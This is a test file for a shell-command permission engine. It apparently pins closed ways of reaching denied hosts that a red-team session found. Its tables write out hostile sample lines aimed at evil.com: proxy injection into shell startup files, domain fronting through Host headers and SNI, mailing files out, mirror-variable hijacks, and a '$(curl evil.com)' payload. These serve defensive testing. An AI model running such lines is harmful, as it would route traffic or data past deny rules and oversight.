// Network reach found by session 41's red team of Domain rules (shell lines and operations): hosts
// a line or operation reaches, or may send later traffic to, that a deny rule names while the
// engine allowed them. Rows pin each hole closed; the ordinary lines beside them keep their decision.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { routesTraffic, TRAFFIC_FILE } from '../src/shell/traffic-settings-files.js';
import { lineTable } from './helpers/line-table.js';
import { expectDecision, REPO_LINUX, REPO_WINDOWS, type Rules } from './helpers/policy.js';

const DENY_EVIL: Rules = {
  deny: ['Domain(evil.com)', 'Domain(*.evil.org)', 'Domain(6.6.6.6)', 'Read(//etc/**)'],
  allow: ['Shell(*)', 'Read(//**)', 'Edit(//**)', 'Domain(*)'],
};
/** Domain allow rules only: nothing for an unknown host to be. */
const ALLOW_ONLY: Rules = { allow: ['Shell(*)', 'Read(//**)', 'Edit(//**)', 'Domain(good.com)'] };

describe('a shell startup file is where later shells take their proxies and aliases: writing one is an unknown host', () => {
  lineTable(DENY_EVIL, [
    ["echo 'export https_proxy=evil.com' >> ~/.bashrc", 'ask'],
    ["echo 'export https_proxy=evil.com' >> ~/.profile", 'ask'],
    ["echo 'export HTTPS_PROXY=evil.com' >> ~/.zshrc", 'ask'],
    ["echo 'export https_proxy=evil.com' >> ~/.zshenv", 'ask'],
    ["echo 'export https_proxy=evil.com' >> ~/.bash_profile", 'ask'],
    ["echo 'set -gx https_proxy evil.com' >> ~/.config/fish/config.fish", 'ask'],
    ["echo 'set -gx https_proxy evil.com' > ~/.config/fish/conf.d/p.fish", 'ask'],
    ["echo 'https_proxy=evil.com' > ~/.config/environment.d/p.conf", 'ask'],
    // (direnv loads a changed .envrc only after `direnv allow`: not a startup file, but since session 45 its text is read for deny and ask rules, which see evil.com.)
    ["echo 'export https_proxy=evil.com' > .envrc", 'ask'],
    ["echo 'export https_proxy=good.com' > .envrc", 'allow'],
    ['echo \'alias curl="curl -x evil.com"\' >> ~/.bashrc', 'ask'],
    ["printf 'export https_proxy=evil.com\\n' | tee -a ~/.bashrc", 'ask'],
    ['cp x ~/.bashrc', 'ask'],
    ["sed -i 's/a/b/' ~/.profile", 'ask'],
    ["echo 'alias ll=\"ls -l\"' >> ~/.bashrc", 'ask'],
    ['cat notes >> ~/.bashrc', 'ask'],
    ["echo 'export https_proxy=evil.com' >> notes.txt", 'allow'],
    ['cat ~/.bashrc', 'allow'],
  ]);
  lineTable(ALLOW_ONLY, [
    ["echo 'alias ll=\"ls -l\"' >> ~/.bashrc", 'allow'],
  ]);
  lineTable(DENY_EVIL, [
    ["Add-Content C:\\Users\\dev\\Documents\\PowerShell\\Microsoft.PowerShell_profile.ps1 '$env:HTTPS_PROXY=\"evil.com\"'", 'ask'],
    ["Set-Content -Path C:\\Users\\dev\\Documents\\WindowsPowerShell\\profile.ps1 -Value 'x'", 'ask'],
    ["Set-Content -Path C:\\w\\repo\\build.ps1 -Value 'x'", 'allow'],
  ], 'pwsh', REPO_WINDOWS);
});

describe('a downloader writing a traffic settings or startup file: an unknown host', () => {
  lineTable(DENY_EVIL, [
    ['curl -o ~/.curlrc https://good.com/x', 'ask'],
    ['wget -O ~/.wgetrc https://good.com/x', 'ask'],
    ['curl -o ~/.bashrc https://good.com/x', 'ask'],
    ['curl -o x.txt https://good.com/x', 'allow'],
  ]);
  lineTable(DENY_EVIL, [
    ['Invoke-WebRequest https://good.com/x -OutFile C:\\Users\\dev\\.npmrc', 'ask'],
    ['Invoke-WebRequest https://good.com/x -OutFile C:\\w\\repo\\x.txt', 'allow'],
  ], 'pwsh', REPO_WINDOWS);
});

describe('an Edit operation of a file that routes later traffic asks where Domain deny or ask rules exist', () => {
  it.each([
    ['/home/dev/.curlrc', REPO_LINUX],
    ['~/.wgetrc', REPO_LINUX],
    ['/home/dev/.npmrc', REPO_LINUX],
    ['/w/repo/.npmrc', REPO_LINUX],
    ['/home/dev/.gitconfig', REPO_LINUX],
    ['/w/repo/.git/config', REPO_LINUX],
    ['/w/repo/./.git/../.git/config', REPO_LINUX],
    ['/home/dev/.ssh/config', REPO_LINUX],
    ['/home/dev/.bashrc', REPO_LINUX],
    ['/home/dev/.config/fish/config.fish', REPO_LINUX],
    ['/home/dev/.docker/config.json', REPO_LINUX],
    ['C:\\Users\\dev\\.curlrc', REPO_WINDOWS],
    ['C:\\Users\\dev\\_CURLRC', REPO_WINDOWS],
    ['C:\\Users\\dev\\.gitconfig.', REPO_WINDOWS],
    ['C:\\Windows\\System32\\drivers\\etc\\hosts', REPO_WINDOWS],
    ['C:\\Users\\dev\\Documents\\PowerShell\\Microsoft.PowerShell_profile.ps1', REPO_WINDOWS],
  ])('edit %s -> ask', (path, context) => {
    expectDecision(DENY_EVIL, 'edit', path, 'ask', context);
  });
  it('edit through a link whose target routes traffic -> ask', () => {
    const context = { ...REPO_LINUX, resolveSymlink: (p: string) => (p === '/w/repo/notes' ? '/home/dev/.curlrc' : undefined) };
    expectDecision(DENY_EVIL, 'edit', '/w/repo/notes', 'ask', context);
  });
  it.each([
    ['edit', '/w/repo/src/x.ts', DENY_EVIL, 'allow'],
    ['edit', '/w/repo/.git/config.bak', DENY_EVIL, 'allow'],
    ['read', '/home/dev/.curlrc', DENY_EVIL, 'allow'],
    ['edit', '/home/dev/.curlrc', ALLOW_ONLY, 'allow'],
    ['edit', '/home/dev/.bashrc', ALLOW_ONLY, 'allow'],
  ] as const)('%s %s -> %s (no host: not an edit of such a file, or no Domain deny or ask rule)', (kind, path, rules, expected) => {
    expectDecision(rules, kind, path, expected, REPO_LINUX);
  });
});

/** A CDN's address allowed, as an administrator might for a mirror. */
const DENY_EVIL_CDN: Rules = {
  deny: ['Domain(evil.com)', 'Domain(*.evil.org)', 'Read(//etc/**)'],
  allow: ['Shell(*)', 'Read(**)', 'Edit(**)', 'Domain(good.com)', 'Domain(1.2.3.5)', 'Domain(http://1.2.3.5)'],
};

describe('the Host header routes a request at a CDN (domain fronting): its host is a Domain part', () => {
  lineTable(DENY_EVIL_CDN, [
    ["curl -H 'Host: evil.com' https://1.2.3.5", 'deny'],
    ['curl -H "Host:a.evil.org" https://good.com', 'deny'],
    ['curl -HHost:evil.com https://good.com', 'deny'],
    ['curl --header host:evil.com https://good.com', 'deny'],
    ["curl -H $'X-A: 1\\r\\nHost: evil.com' https://good.com", 'deny'],
    ['curl -H "Host: $H" https://good.com', 'ask'],
    ['curl -H "$HDR" https://good.com', 'ask'],
    ['curl -H @headers.txt https://good.com', 'ask'],
    ['curl --request-target https://evil.com/ https://good.com', 'deny'],
    ["curl -H 'Host: intranet.local' https://good.com", 'ask'],
    ['wget --header=Host:evil.com http://1.2.3.5', 'deny'],
    ["wget --header='Host: evil.com' http://1.2.3.5", 'deny'],
    ["aria2c --header='Host: evil.com' https://good.com", 'deny'],
    ["aria2c --header 'Host: evil.com' https://good.com", 'deny'],
    ["curl -H 'Host: good.com' https://1.2.3.5", 'allow'],
    ['curl -H "Authorization: Bearer $TOKEN" https://good.com', 'allow'],
    ["curl -H 'Accept: application/json' https://good.com", 'allow'],
    ['curl --request-target /x https://good.com', 'allow'],
    ["wget --header 'Accept: x' https://good.com", 'allow'],
  ]);
  lineTable(DENY_EVIL_CDN, [
    ["Invoke-WebRequest -Headers @{Host='evil.com'} https://1.2.3.5", 'deny'],
    ["Invoke-WebRequest https://1.2.3.5 -Headers @{Accept='x'; host = 'evil.com'}", 'deny'],
    ["Invoke-WebRequest https://1.2.3.5 -Headers @{Accept='x;host=a'; \"Ho`st\" = 'evil.com'}", 'ask'],
    ['Invoke-RestMethod https://good.com -Headers $h', 'ask'],
    ['iwr https://good.com -Headers @{Host=$h}', 'ask'],
    ["Invoke-WebRequest https://good.com -Headers @{Accept='x'}", 'allow'],
    ['Invoke-WebRequest https://good.com -Headers @{Authorization="Bearer $t"}', 'allow'],
  ], 'pwsh', REPO_WINDOWS);
});

describe('mail goes to each recipient\'s domain (its mail exchanger), through the local mail system', () => {
  lineTable(DENY_EVIL, [
    ['mail x@evil.com', 'deny'],
    ['mail -s hi x@evil.com < notes', 'deny'],
    ['mail -s hi -c a@a.evil.org root < notes', 'deny'],
    ["echo hi | mail -s subj 'Bob <bob@evil.com>'", 'deny'],
    ['mail -s hi x%evil.com@good.com', 'deny'],
    ['mailx -s hi a@good.com,b@evil.com', 'deny'],
    ['mail -s hi "$TO"', 'ask'],
    ['mailx -t < msg', 'ask'],
    ['sendmail x@evil.com < notes', 'deny'],
    ['sendmail -oi -f me@good.com x@evil.com < notes', 'deny'],
    ['msmtp --host=good.com x@evil.com < notes', 'deny'],
    ['ssmtp x@evil.com < notes', 'deny'],
    ['sendmail -t < msg', 'ask'],
    ['sendmail -bs < msg', 'ask'],
    ['git send-email --to x@evil.com p.patch', 'deny'],
    ['git send-email --to=x@evil.com p.patch', 'deny'],
    ['git send-email --cc=a@a.evil.org --to=x@good.com p.patch', 'deny'],
    ['git send-email --to=x@good.com p.patch', 'ask'],
    ['mail -s hi good@good.com < notes', 'allow'],
    ['sendmail root < notes', 'allow'],
    ['mail -f mbox', 'allow'],
  ]);
});

describe('tcpdump looks up its filter\'s host names (a DNS query to their nameservers, as dig\'s)', () => {
  lineTable(DENY_EVIL, [
    ['tcpdump host evil.com', 'deny'],
    ["tcpdump -i eth0 'host x.evil.org and port 443'", 'deny'],
    ['tcpdump -n -i any src a.evil.org', 'deny'],
    ['tcpdump -i eth0 host $H', 'ask'],
    ['tcpdump -F filter.txt', 'ask'],
    ['tcpdump -i eth0 port http', 'allow'],
    ["tcpdump -w out.pcap -i eth0 'tcp[tcpflags] & tcp-syn != 0'", 'allow'],
    ['tcpdump -i eth0 host 6.6.6.6', 'allow'],
    ['tcpdump -r x.pcap', 'allow'],
  ]);
});

describe('a host variable stored for later programs: systemd\'s manager environment, the registry\'s Environment keys', () => {
  lineTable(DENY_EVIL, [
    ['systemctl --user set-environment https_proxy=evil.com', 'deny'],
    ['systemctl --user set-environment ALL_PROXY=socks5://a.evil.org:1080', 'deny'],
    ['systemctl --user set-environment "$V"', 'ask'],
    ['systemctl --user set-environment FOO=bar', 'allow'],
    ['systemctl restart nginx', 'allow'],
  ]);
  lineTable(DENY_EVIL, [
    ['Set-ItemProperty HKCU:\\Environment HTTPS_PROXY evil.com', 'deny'],
    ['Set-ItemProperty -Path HKCU:\\Environment -Name HTTPS_PROXY -Value evil.com', 'deny'],
    ['New-ItemProperty -Path HKCU:\\Environment -Name PIP_INDEX_URL -Value https://evil.com/simple', 'deny'],
    ["Set-ItemProperty -Path 'HKLM:\\SYSTEM\\CurrentControlSet\\Control\\Session Manager\\Environment' -Name HTTPS_PROXY -Value evil.com", 'deny'],
    ['Set-ItemProperty -Path HKCU:\\Environment -Name $n -Value evil.com', 'deny'],
    ['Set-ItemProperty -Path HKCU:\\Environment -Name JAVA_HOME -Value C:\\jdk', 'allow'],
  ], 'pwsh', REPO_WINDOWS);
});

describe('Update-Help and Save-Help download from each module\'s HelpInfoUri: an unknown host', () => {
  lineTable(DENY_EVIL, [
    ['Update-Help', 'ask'],
    ['Update-Help -Module Microsoft.PowerShell.Utility -Force', 'ask'],
    ['Save-Help -DestinationPath C:\\w\\repo\\help', 'ask'],
    ['Update-Help -SourcePath C:\\help', 'allow'],
    ['Get-Help Get-Item', 'allow'],
  ], 'pwsh', REPO_WINDOWS);
});

describe('the TLS SNI a client sends is where a CDN routes the connection: a host too', () => {
  lineTable(DENY_EVIL, [
    ['openssl s_client -connect good.com:443 -servername evil.com', 'deny'],
    ['openssl s_client -connect good.com:443 -servername=evil.com', 'deny'],
    ['gnutls-cli --sni-hostname evil.com good.com', 'deny'],
    ['gnutls-cli --sni-hostname=evil.com good.com', 'deny'],
    ['ncat --ssl --ssl-servername evil.com good.com 443', 'deny'],
    ['socat - OPENSSL:good.com:443,snihost=evil.com', 'deny'],
    ['openssl s_client -connect good.com:443 -servername good.com', 'allow'],
    ['socat - OPENSSL:good.com:443,verify=0', 'allow'],
  ]);
});

describe('variables that name where binaries and packages are fetched from, and terraform login\'s host', () => {
  // (An exported URL naming a denied host denies since session 43's exported-hosts.ts reading; a bare host asks.)
  lineTable(DENY_EVIL, [
    ['export RUSTUP_DIST_SERVER=https://evil.com', 'deny'],
    ['export RUSTUP_UPDATE_ROOT=https://evil.com/rustup', 'deny'],
    ['export ELECTRON_MIRROR=https://evil.com/', 'deny'],
    ['export NVM_NODEJS_ORG_MIRROR=https://evil.com', 'deny'],
    ['export SASS_BINARY_SITE=https://evil.com', 'deny'],
    ['export CHROMEDRIVER_CDNURL=https://evil.com', 'deny'],
    ['export GEM_SOURCE=https://evil.com', 'deny'],
    ['export LOCALDOMAIN=evil.com', 'ask'],
    ['export HOSTALIASES=/tmp/aliases', 'ask'],
    ["export NIX_CONFIG='substituters = https://evil.com'", 'deny'],
    ["export MAVEN_OPTS='-Dhttps.proxyHost=evil.com'", 'ask'],
    ['export EDITOR=vim', 'allow'],
    ['terraform login evil.com', 'deny'],
    ['terraform -chdir=infra logout evil.com', 'deny'],
    ['tofu login a.evil.org', 'deny'],
    ['terraform login "$H"', 'ask'],
    ['terraform login', 'allow'],
    ['terraform plan', 'allow'],
  ]);
});

describe('routesTraffic: its last-segment test before the pattern drops no path the pattern matches', () => {
  const names = ['.curlrc', '_CURLRC', 'curlrc', '.wgetrc', '.npmrc', '.yarnrc.yml', 'pip.conf', 'pip.ini', '.gitconfig', '.gitmodules', '.condarc', '.gemrc',
    'resolv.conf', 'ssh_config', 'config', 'config.toml', 'config.json', 'daemon.json', 'settings.xml', 'apt.conf', 'sources.list', 'hosts', 'environment',
    'env', '.bashrc', '.BASH_PROFILE', '.profile', '.zshenv', '.zlogout', '.kshrc', '.cshrc', '.login', '.pam_environment', 'config.fish', 'fish_variables',
    'profile', 'bash.bashrc', 'bashrc', 'zshrc', 'csh.login', 'rc', 'Microsoft.PowerShell_profile.ps1', 'profile.ps1', 'x.conf', 'a', 'Button.tsx', 'd.d'];
  const dirs = ['git', '.git', '.ssh', 'etc', 'zsh', 'fish', 'conf.d', 'apt', 'apt.conf.d', 'sources.list.d', 'profile.d', 'environment.d', '.bashrc.d',
    '.cargo', '.docker', 'docker', '.bundle', '.m2', 'go', 'home', 'w', 'C:', 'x.D'];
  it('agrees with TRAFFIC_FILE on paths built from its names, either separator and case', () => {
    fc.assert(fc.property(fc.array(fc.constantFrom(...dirs), { maxLength: 4 }), fc.constantFrom(...names), fc.constantFrom('/', '\\'), fc.boolean(), fc.boolean(),
      (ds, name, sep, upper, leading) => {
        const text = `${leading ? sep : ''}${[...ds, name].join(sep)}`;
        const path = upper ? text.toUpperCase() : text;
        expect(routesTraffic(path)).toBe(TRAFFIC_FILE.test(path));
      }), { numRuns: 5000 });
  });
  it('and on any short text over its characters', () => {
    fc.assert(fc.property(fc.string({ unit: fc.constantFrom('/', '\\', '.', '_', 'd', 'D', 'c', 'r', 'x', 'g', 'i', 't', 'e', 'n', 'v', 'o', 'f', '1'), maxLength: 16 }),
      (path) => { expect(routesTraffic(path)).toBe(TRAFFIC_FILE.test(path)); }), { numRuns: 5000 });
  });
});

describe('more writers of traffic settings and startup files; git config --file= as the file it writes', () => {
  lineTable(DENY_EVIL, [
    ["git config -f ~/.bashrc a.b '$(curl evil.com)'", 'ask'],
    ['git config --file=/home/dev/.curlrc a.b x', 'ask'],
    ['echo x | sponge ~/.bashrc', 'ask'],
    ['sort -o ~/.curlrc x', 'ask'],
    ["vim -es -c 'norm Goexport https_proxy=evil.com' -c wq ~/.bashrc", 'ask'],
    ['scp good.com:x ~/.npmrc', 'ask'],
    ['git config --global http.proxy good.com', 'allow'],
    ['git config --global user.name x', 'allow'],
    ['git config -f .gitmodules submodule.x.url https://good.com/x', 'allow'],
    ['sort -o out.txt x', 'allow'],
    ['vim src/x.ts', 'allow'],
  ]);
  lineTable({ deny: ['Edit(//etc/**)'], allow: ['Shell(*)', 'Read(//**)', 'Edit(**)'] }, [
    ['git config --file=/etc/gitconfig a.b c', 'deny'],
    ['git config --fil=/etc/gitconfig a.b c', 'deny'],
    ['git config -f/etc/gitconfig a.b c', 'deny'],
    ['git config a.b c', 'allow'],
  ]);
});

describe('ruby\'s resolvers look names up: their host literals are hosts, as for socket code', () => {
  lineTable(DENY_EVIL, [
    ["ruby -rresolv -e 'Resolv.getaddress(\"x.evil.org\")'", 'deny'],
    ["ruby -e 'require \"resolv\"; Resolv.getaddress(\"x.evil.org\")'", 'deny'],
    ["ruby -e 'IPSocket.getaddress(\"x.evil.org\")'", 'deny'],
    ["ruby -e 'puts \"a.b\".upcase'", 'allow'],
  ]);
});

describe('inline code that writes a traffic settings or startup file: an unknown host', () => {
  lineTable(DENY_EVIL, [
    ["python3 -c \"open('/home/dev/.curlrc','w').write('proxy=evil.com')\"", 'ask'],
    ["node -e \"require('fs').appendFileSync('/home/dev/.bashrc','x')\"", 'ask'],
    ["ruby -e 'File.write(\"/home/dev/.npmrc\", \"x\")'", 'ask'],
    ["php -r 'file_put_contents(\"/home/dev/.bashrc\", \"x\");'", 'ask'],
    ["python3 -c \"open('out.txt','w').write('x')\"", 'allow'],
  ]);
});
